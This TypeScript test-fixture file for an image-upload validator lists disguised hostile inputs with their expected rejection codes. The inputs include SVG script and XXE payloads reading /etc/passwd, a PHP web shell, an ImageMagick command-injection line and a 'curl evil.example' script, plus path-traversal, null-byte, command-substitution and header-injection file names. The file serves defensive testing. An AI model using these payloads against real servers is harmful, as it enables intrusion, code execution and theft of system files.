import { readFile } from "node:fs/promises";
import { crc32, gzipSync } from "node:zlib";
import sharp from "sharp";
import { quadrants } from "../../src/adapters/images-sharp/test/drawnPhotos.ts";

export const readFixture = (name: string) =>
  readFile(new URL(`../../src/adapters/images-sharp/test/${name}`, import.meta.url));
export const latin1Bytes = (text: string) => Buffer.from(text, "latin1");
const SCRIPT = "<script>alert(document.domain)</script>";
export const jpeg = () => quadrants(400, 300).jpeg().toBuffer();

/** Creates a PNG chunk: length, type, data and CRC. */
export const pngChunk = (kind: string, bytes: Buffer): Buffer => {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(bytes.length);
  const body = Buffer.concat([latin1Bytes(kind), bytes]);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
};

/** Creates the header chunk (IHDR) of a PNG with 8-bit colour. */
export const pngHeaderChunk = (width: number, height: number, interlaced = false): Buffer => {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  size.set([8, 2, 0, 0, interlaced ? 1 : 0], 8);
  return pngChunk("IHDR", size);
};

/** Returns the JPEG with a comment after its first marker. */
const withComment = (picture: Buffer, text: string): Buffer => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    picture.subarray(0, 2),
    latin1Bytes("\xff\xfe"),
    length,
    latin1Bytes(text),
    picture.subarray(2),
  ]);
};

type ExpectedResult = "NOT_AN_IMAGE" | "PHOTO_DAMAGED" | "TOO_MANY_PIXELS" | "PHOTO_TOO_SMALL" | "clean";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">${SCRIPT}<image href="file:///etc/passwd"/></svg>`;

/** Files that are not what they seem. `clean`: accepted, and served without the hidden content. */
export const MALICIOUS_FILES: readonly (readonly [
  what: string,
  expected: ExpectedResult,
  bytes: () => Promise<Buffer> | Buffer,
])[] = [
  ["an SVG", "NOT_AN_IMAGE", () => latin1Bytes(SVG)],
  ["an SVG behind spaces and a comment", "NOT_AN_IMAGE", () => latin1Bytes(`\n\n<!-- a photo -->${SVG}`)],
  [
    "an SVG with a document type",
    "NOT_AN_IMAGE",
    () => latin1Bytes(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`),
  ],
  ["an SVG in UTF-16", "NOT_AN_IMAGE", () => Buffer.from(`\ufeff${SVG}`, "utf16le")],
  ["an SVG with a byte order mark", "NOT_AN_IMAGE", () => Buffer.from(`\ufeff${SVG}`)],
  ["a packed SVG", "NOT_AN_IMAGE", () => gzipSync(SVG)],
  ["an SVG behind the first bytes of a JPEG", "PHOTO_DAMAGED", () => latin1Bytes(`\xff\xd8\xff\xe0${SVG}`)],
  ["an SVG behind the first bytes of a PNG", "PHOTO_DAMAGED", () => latin1Bytes(`\x89PNG\r\n\x1a\n${SVG}`)],
  ["an SVG behind the first bytes of a GIF", "PHOTO_DAMAGED", () => latin1Bytes(`GIF89a${SVG}`)],
  [
    "an SVG that calls itself HEIC",
    "PHOTO_DAMAGED",
    () => latin1Bytes(`\0\0\0\x18ftypheic\0\0\0\0mif1heic${SVG}`),
  ],
  ["a web page", "NOT_AN_IMAGE", () => latin1Bytes(`<!doctype html>${SCRIPT}`)],
  ["a web page in capitals", "NOT_AN_IMAGE", () => latin1Bytes(`<HTML><BODY>${SCRIPT}`)],
  ["a script alone", "NOT_AN_IMAGE", () => latin1Bytes("alert(1)")],
  [
    "a script that is called GIF",
    "NOT_AN_IMAGE",
    () => latin1Bytes("GIF89a/*\0\0\0\0*/=1;alert(document.domain)"),
  ],
  ["PHP", "NOT_AN_IMAGE", () => latin1Bytes("<?php system($_GET['c']); ?>")],
  [
    "PHP behind the first bytes of a GIF",
    "PHOTO_DAMAGED",
    () => latin1Bytes("GIF87a<?php system($_GET['c']); ?>"),
  ],
  ["a PDF", "NOT_AN_IMAGE", () => latin1Bytes("%PDF-1.7\n1 0 obj")],
  ["PostScript", "NOT_AN_IMAGE", () => latin1Bytes("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")],
  [
    "ImageMagick's own language",
    "NOT_AN_IMAGE",
    () => latin1Bytes("push graphic-context\nfill 'url(https://evil.example/\"|ls\")'\npop graphic-context"),
  ],
  ["a picture of text commands", "NOT_AN_IMAGE", () => latin1Bytes("id=ImageMagick version=1.0\n")],
  ["a ZIP archive", "NOT_AN_IMAGE", () => latin1Bytes("PK\x03\x04\x14\0")],
  ["a program", "NOT_AN_IMAGE", () => latin1Bytes("MZ\x90\0\x03")],
  ["a program of Linux", "NOT_AN_IMAGE", () => latin1Bytes("\x7fELF\x02\x01\x01")],
  ["a shell script", "NOT_AN_IMAGE", () => latin1Bytes("#!/bin/sh\ncurl evil.example\n")],
  ["a film", "NOT_AN_IMAGE", () => latin1Bytes("\0\0\0\x18ftypisom\0\0\0\0isommp42")],
  ["a list of films", "NOT_AN_IMAGE", () => latin1Bytes("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n")],
  ["a BMP", "NOT_AN_IMAGE", () => latin1Bytes("BM\x36\0\0\0")],
  ["an icon", "NOT_AN_IMAGE", () => latin1Bytes("\0\0\x01\0\x01\0")],
  ["a Photoshop document", "NOT_AN_IMAGE", () => latin1Bytes("8BPS\0\x01")],
  ["a camera's raw file", "NOT_AN_IMAGE", () => latin1Bytes("II*\0\x10\0\0\0CR\x02\0")],
  ["JSON", "NOT_AN_IMAGE", () => latin1Bytes('{"__proto__":{}}')],
  ["nothing", "NOT_AN_IMAGE", () => Buffer.alloc(0)],
  ["one byte", "NOT_AN_IMAGE", () => Buffer.alloc(1)],
  ["zeros", "NOT_AN_IMAGE", () => Buffer.alloc(5_000)],
  ["the first bytes of a JPEG alone", "PHOTO_DAMAGED", () => latin1Bytes("\xff\xd8\xff")],
  ["a JPEG cut short", "PHOTO_DAMAGED", async () => (await jpeg()).subarray(0, 2_500)],
  [
    "a PNG cut short",
    "PHOTO_DAMAGED",
    async () => (await quadrants(400, 300).png({ compressionLevel: 0 }).toBuffer()).subarray(0, 9_000),
  ],
  [
    "a WebP cut short",
    "PHOTO_DAMAGED",
    async () => (await quadrants(400, 300).webp({ lossless: true }).toBuffer()).subarray(0, 200),
  ],
  [
    "an AVIF cut short",
    "PHOTO_DAMAGED",
    async () => (await quadrants(400, 300).avif().toBuffer()).subarray(0, 300),
  ],
  [
    "a TIFF cut short",
    "PHOTO_DAMAGED",
    async () => (await quadrants(400, 300).tiff({ compression: "none" }).toBuffer()).subarray(0, 20_000),
  ],
  ["a HEIC cut short", "PHOTO_DAMAGED", () => readFixture("truncated.heic")],
  ["a JPEG of broken tables", "PHOTO_DAMAGED", () => readFixture("corrupt-huffman-tables.jpg")],
  ["a JPEG that claims 4 gigapixels", "TOO_MANY_PIXELS", () => readFixture("declares-65500x65500.jpg")],
  [
    "a pixel",
    "PHOTO_TOO_SMALL",
    () =>
      sharp({ create: { width: 1, height: 1, channels: 3, background: "red" } })
        .png()
        .toBuffer(),
  ],
  ["a JPEG with a script for its comment", "clean", async () => withComment(await jpeg(), SCRIPT)],
  [
    "a JPEG with a script behind its end",
    "clean",
    async () => Buffer.concat([await jpeg(), latin1Bytes(SCRIPT)]),
  ],
  [
    "a JPEG with a program behind its end",
    "clean",
    async () => Buffer.concat([await jpeg(), latin1Bytes(`PK\x03\x04${SCRIPT}`)]),
  ],
  ["a JPEG that is a PDF too", "clean", async () => withComment(await jpeg(), `%PDF-1.7 ${SCRIPT}`)],
  [
    "a JPEG with a script in its EXIF",
    "clean",
    () =>
      quadrants(400, 300)
        .withExif({ IFD0: { ImageDescription: SCRIPT, Artist: SCRIPT } })
        .jpeg()
        .toBuffer(),
  ],
  [
    "a PNG with a script behind its end",
    "clean",
    async () => Buffer.concat([await quadrants(400, 300).png().toBuffer(), latin1Bytes(SCRIPT)]),
  ],
  [
    "a GIF with a script behind its end",
    "clean",
    async () => Buffer.concat([await quadrants(400, 300).gif().toBuffer(), latin1Bytes(SCRIPT)]),
  ],
  [
    "a WebP with a script in its XMP",
    "clean",
    () => quadrants(400, 300).withXmp(`<x>${SCRIPT}</x>`).webp().toBuffer(),
  ],
];

/** File names that have exploited servers. */
export const MALICIOUS_FILE_NAMES = [
  "../../../../etc/cron.d/evil.jpg",
  "..\\..\\windows\\evil.jpg",
  "%2e%2e%2f%2e%2e%2fevil.jpg",
  "/etc/passwd",
  "C:\\evil.jpg",
  "evil.jpg\0.php",
  "photo.jpg.php",
  "photo.php%00.jpg",
  ".htaccess",
  "CON",
  "NUL.jpg",
  "aux.jpg",
  "photo\u202egpj.exe",
  "\u0000",
  ".",
  "..",
  "~root",
  "-rf",
  "$(id).jpg",
  "`id`.jpg",
  "a\r\nContent-Type: text/html\r\n\r\n<script>",
  `${"x".repeat(4_000)}.jpg`,
  "е́vil\ud83d\ude00.jpg",
  "<img src=x onerror=alert(1)>.jpg",
];
